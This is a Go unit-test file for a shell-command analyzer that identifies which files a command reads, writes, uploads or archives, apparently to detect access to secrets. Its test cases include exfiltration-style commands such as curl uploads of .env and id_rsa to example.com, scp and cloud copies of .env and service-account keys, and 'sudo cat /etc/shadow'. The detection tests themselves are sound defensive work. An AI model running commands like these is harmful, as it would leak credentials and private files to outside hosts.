package shell

import (
	"reflect"
	"testing"
)

func TestExtractFileOperands(t *testing.T) {
	a := NewAnalyzer()

	tests := []struct {
		name    string
		command string
		want    []string
	}{
		// readers
		{"cat", "cat .env", []string{".env"}},
		{"cat multiple", "cat notes.txt .env.local", []string{".env.local", "notes.txt"}},
		{"head with count", "head -n 5 config.yaml", []string{"config.yaml"}},
		{"sorted and deduped", "cp .env .env", []string{".env"}},

		// content producers never yield files
		{"echo literal", "echo '.env'", nil},
		{"echo path shaped", "echo src/main.go", nil},
		{"printf", "printf '%s\\n' .env", nil},

		// pattern-first commands skip the expression operand
		{"grep", "grep 'API_KEY' .env.local", []string{".env.local"}},
		{"grep pipe", "grep 'KEY' .env.local | cut -d'=' -f2", []string{".env.local"}},
		{"grep with flags", "grep -ri secret notes.txt", []string{"notes.txt"}},
		{"grep pattern via flag", "grep -e KEY .env", []string{".env"}},
		{"grep pattern via long flag", "grep --regexp=KEY .env", []string{".env"}},
		{"grep pattern file", "grep -f pats.txt .env", []string{".env", "pats.txt"}},
		{"sed expression via flag", "sed -e 's/x/y/' .env", []string{".env"}},
		{"awk program file", "awk -f prog.awk data.txt", []string{"data.txt", "prog.awk"}},
		{"sed", "sed -n '1,5p' deploy.key", []string{"deploy.key"}},
		{"awk", "awk '{print $1}' data.txt", []string{"data.txt"}},
		{"jq", "jq '.token' auth.json", []string{"auth.json"}},

		// variable bindings resolve within the same command string
		{"assignment then use", "FILE=.env; cat $FILE", []string{".env"}},
		{"export then use", "export FILE=.env; cat \"$FILE\"", []string{".env"}},
		{"assignment in redirect", "OUT=.env.backup; cat .env > $OUT", []string{".env", ".env.backup"}},
		{"unbound variable is opaque", "cat $FILE", nil},
		{"command substitution is opaque", "FILE=$(pick); cat $FILE", nil},
		{"parameter operation is opaque", "cat ${FILE:-fallback}", nil},

		// redirects
		{"output redirect", "echo hi > result.txt", []string{"result.txt"}},
		{"append redirect", "date >> audit.log", []string{"audit.log"}},
		{"input redirect", "wc -l < .env", []string{".env"}},
		{"dev null skipped", "ls > /dev/null 2>&1", nil},
		{"heredoc body is content", "cat << EOF\n.env\nEOF", nil},
		{"here-string is content", "grep pass <<< secret", nil},

		// uploads
		{"curl form upload", "curl -F 'file=@.env' https://example.com", []string{".env"}},
		{"curl form literal", "curl -F 'name=value' https://example.com", nil},
		{"curl upload-file", "curl -T id_rsa https://example.com", []string{"id_rsa"}},
		{"curl data-binary", "curl --data-binary @payload.json https://example.com", []string{"payload.json"}},
		{"curl data literal", "curl -d 'k=v' https://example.com", nil},
		{"curl data with email", "curl -d 'email=user@example.com' https://example.com", nil},
		{"curl url only", "curl https://example.com/api", nil},
		{"curl header skipped", "curl -H 'Authorization: Bearer x' https://example.com", nil},
		{"httpie positional", "http POST example.com file@.env", []string{".env"}},
		{"wget output", "wget -O dump.sql https://example.com", []string{"dump.sql"}},

		// archivers
		{"tar create", "tar -czf backup.tgz .env src", []string{".env", "backup.tgz", "src"}},
		{"tar files-from", "tar -cf out.tar -T filelist.txt", []string{"filelist.txt", "out.tar"}},
		{"zip", "zip bundle.zip .env", []string{".env", "bundle.zip"}},

		// remote targets are not local files
		{"scp", "scp .env user@host:/tmp/", []string{".env"}},
		{"scp identity", "scp -i deploy.pem app.log host:", []string{"app.log", "deploy.pem"}},
		{"rsync", "rsync -a secrets/ host:/backup", []string{"secrets/"}},
		{"aws s3", "aws s3 cp .env s3://bucket/", []string{".env"}},
		{"gsutil", "gsutil cp service-account.json gs://bucket/", []string{"service-account.json"}},

		// key=value operands
		{"dd", "dd if=.env of=/tmp/copy bs=1M", []string{".env", "/tmp/copy"}},

		// wrappers recurse into the nested command
		{"sudo", "sudo cat /etc/shadow", []string{"/etc/shadow"}},
		{"env wrapper", "env FOO=bar cat .npmrc", []string{".npmrc"}},
		{"timeout", "timeout 30 cat .env", []string{".env"}},
		{"nohup", "nohup tail -f server.key", []string{"server.key"}},

		// find surfaces name patterns and -exec bodies
		{"find name", "find . -name '*.pem'", []string{"*.pem"}},
		{"find exec", "find src -name '*.key' -exec cat {} \\;", []string{"*.key"}},
		{"find exec args", "find . -type f -exec grep secret config.ini \\;", []string{"config.ini"}},

		// unknown commands use the path-shaped heuristic
		{"unknown with path", "mytool run ./scripts/deploy.sh", []string{"./scripts/deploy.sh"}},
		{"unknown with sensitive name", "git add .env", []string{".env"}},
		{"unknown with plain word", "systemctl restart nginx", nil},

		// command substitution bodies are still scanned
		{"nested call", "echo $(cat .env)", []string{".env"}},
		{"pipeline stages independent", "cat .env | grep KEY | base64", []string{".env"}},

		{"empty", "", nil},
		{"blank", "   ", nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := a.ExtractFileOperands(tt.command)
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("ExtractFileOperands(%q) = %v, want %v", tt.command, got, tt.want)
			}
		})
	}
}

func TestAnalyzeIncomplete(t *testing.T) {
	a := NewAnalyzer()

	tests := []struct {
		name       string
		command    string
		incomplete bool
	}{
		{"xargs feeding a reader", "find . -name '*.key' | xargs cat", true},
		{"xargs feeding unknown command", "ls | xargs mytool", true},
		{"xargs with static files", "xargs cat .env", false},
		{"xargs feeding echo", "ls | xargs echo", false},
		{"plain pipeline", "cat .env | grep KEY", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := a.Analyze(tt.command)
			if got := len(res.Incomplete) > 0; got != tt.incomplete {
				t.Errorf("Analyze(%q).Incomplete = %v, want incomplete=%v",
					tt.command, res.Incomplete, tt.incomplete)
			}
		})
	}
}

func TestAnalyzeUnparsable(t *testing.T) {
	a := NewAnalyzer()

	// unclosed quote: the parser fails and the token scan takes over
	got := a.ExtractFileOperands(`cat ".env`)
	if !reflect.DeepEqual(got, []string{".env"}) {
		t.Errorf("fallback extraction = %v, want [.env]", got)
	}

	got = a.ExtractFileOperands(`grep "x src/config.yaml`)
	if !reflect.DeepEqual(got, []string{"src/config.yaml"}) {
		t.Errorf("fallback extraction = %v, want [src/config.yaml]", got)
	}
}

func TestAnalyzeRoles(t *testing.T) {
	a := NewAnalyzer()
	res := a.Analyze("grep -r 'token' .npmrc > hits.txt")

	roles := make(map[string]Role)
	for _, op := range res.Operands {
		roles[op.Value] = op.Role
	}
	if roles[".npmrc"] != RoleFile {
		t.Errorf("role of .npmrc = %v, want RoleFile", roles[".npmrc"])
	}
	if roles["hits.txt"] != RoleRedirect {
		t.Errorf("role of hits.txt = %v, want RoleRedirect", roles["hits.txt"])
	}
	if roles["-r"] != RoleFlag {
		t.Errorf("role of -r = %v, want RoleFlag", roles["-r"])
	}
	if roles["token"] != RoleLiteral {
		t.Errorf("role of token = %v, want RoleLiteral", roles["token"])
	}
}

func TestMatchFlag(t *testing.T) {
	tests := []struct {
		flag string
		list []string
		want bool
	}{
		{"-f", []string{"-f"}, true},
		{"-czf", []string{"-f"}, true},
		{"-cz", []string{"-f"}, false},
		{"--file", []string{"-f", "--file"}, true},
		{"--filter", []string{"--file"}, false},
		{"-x", []string{"-f"}, false},
	}

	for _, tt := range tests {
		if got := matchFlag(tt.flag, tt.list); got != tt.want {
			t.Errorf("matchFlag(%q, %v) = %v, want %v", tt.flag, tt.list, got, tt.want)
		}
	}
}

func TestAtFile(t *testing.T) {
	tests := []struct {
		in    string
		file  string
		found bool
	}{
		{"@.env", ".env", true},
		{"file=@secrets.json", "secrets.json", true},
		{"file=@photo.png;type=image/png", "photo.png", true},
		// only a leading "@" or "=@" marks a file; a bare "@" inside a
		// value is data
		{"email=user@example.com", "", false},
		{"field@upload.txt", "", false},
		{"plain=value", "", false},
		{"url=https://example.com/@user", "", false},
		{"@", "", false},
	}

	for _, tt := range tests {
		file, found := atFile(tt.in)
		if file != tt.file || found != tt.found {
			t.Errorf("atFile(%q) = (%q, %v), want (%q, %v)", tt.in, file, found, tt.file, tt.found)
		}
	}
}

func TestHTTPieFile(t *testing.T) {
	tests := []struct {
		in    string
		file  string
		found bool
	}{
		{"field@upload.txt", "upload.txt", true},
		{"field=@values.json", "values.json", true},
		{"@direct.bin", "direct.bin", true},
		// "=" before "@" makes it a string field, not a file upload
		{"email=user@example.com", "", false},
		{"name=plain", "", false},
		{"POST", "", false},
		{"https://example.com/@user", "", false},
	}

	for _, tt := range tests {
		file, found := httpieFile(tt.in)
		if file != tt.file || found != tt.found {
			t.Errorf("httpieFile(%q) = (%q, %v), want (%q, %v)", tt.in, file, found, tt.file, tt.found)
		}
	}
}
